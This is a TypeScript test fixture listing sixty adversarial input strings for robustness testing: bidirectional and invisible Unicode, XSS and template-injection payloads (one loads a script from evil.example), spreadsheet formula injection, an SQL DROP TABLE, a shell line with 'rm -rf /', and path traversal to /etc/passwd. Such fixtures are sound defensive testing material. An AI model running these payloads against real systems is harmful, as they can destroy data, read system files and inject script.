// Sixty texts that break programs which mix up text with markup, code, formulas, paths or direction. Each is one line; what
// a script of them would do is to set `hostileRan` or to ask evil.example for something.

const BOMB = `Z${'\u0351\u0327\u0488'.repeat(40)}`;
const FAMILY = '👩‍👩‍👧‍👦';

export const HOSTILE_STRINGS: readonly string[] = [
  // direction
  'שלום עולם',
  'مرحبا بالعالم 12',
  '\u202eresrever\u202c',
  '\u2066isolated\u2069 \u2067רביעי',
  'abc \u202e def',
  '\u200f\u200fאבג 42',
  '\u061c٣٤٥ عربي',
  'דנה, מיכל',
  // nothing to see
  'a\u200bb\u200cc\u200dd',
  '\ufeffBOM',
  '\u2060\u00ad\u180e hidden',
  '\u3164\u115f\u2800 blank',
  'tab\tvertical\u000bform\u000c',
  'nul\u0000bell\u0007esc\u001b[31m red',
  '\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007',
  'line\u2028paragraph\u2029next\u0085',
  // halves and sequences
  'lone \ud83d half',
  '\udc00 low',
  `${FAMILY}${FAMILY}${FAMILY}`,
  '🏴󠁧󠁢󠁳󠁣󠁴󠁿 🇨🇭 1️⃣ ☠️',
  '👍🏽👍🏿 \u{1f3fb}',
  BOMB,
  'e\u0301 vs é vs ㋿ ﷽',
  '𝕳𝖊𝖑𝖑𝖔 Ⓐⓑⓒ',
  // markup
  '<script>hostileRan=1</script>',
  '"><img src=x onerror=hostileRan=1>',
  "'><svg/onload=hostileRan=1>",
  '</title></style></textarea><script src=//evil.example/x.js></script>',
  '<iframe src="javascript:hostileRan=1">',
  '<a href="javascript:hostileRan=1">click</a>',
  '&lt;b&gt;&amp;&#x3c;script&#x3e;',
  '<!-- --!> <![CDATA[ ]]>',
  '</script><script>hostileRan=1//',
  '<style>*{display:none}</style>',
  'javascript:hostileRan=1',
  'data:text/html,<script>hostileRan=1</script>',
  // markdown and templates
  '[x](javascript:hostileRan=1)',
  '![x](http://evil.example/x.png)',
  '# head | table | --- `code` **b**',
  '```\n```'.replace('\n', ' '),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the text
  '${hostileRan=1} #{hostileRan=1}',
  '{{constructor.constructor("hostileRan=1")()}}',
  '<%= hostileRan=1 %> {% x %}',
  '$$x$$ \\(y\\) \\input{/etc/passwd}',
  // formulas
  '=1+1',
  '=HYPERLINK("http://evil.example","x")',
  '+41 44 000 00 00',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '"quoted";"cells",\',',
  // words without an end
  'W'.repeat(300),
  'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft',
  'https://evil.example/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
  '。'.repeat(80),
  // databases, shells, files, objects
  "'; DROP TABLE events; --",
  '$(touch /tmp/x) `id` ; rm -rf / | cat && true',
  '../../../../etc/passwd',
  'C:\\..\\con.txt%00.png',
  '__proto__',
  'constructor.prototype.hasOwnProperty',
];
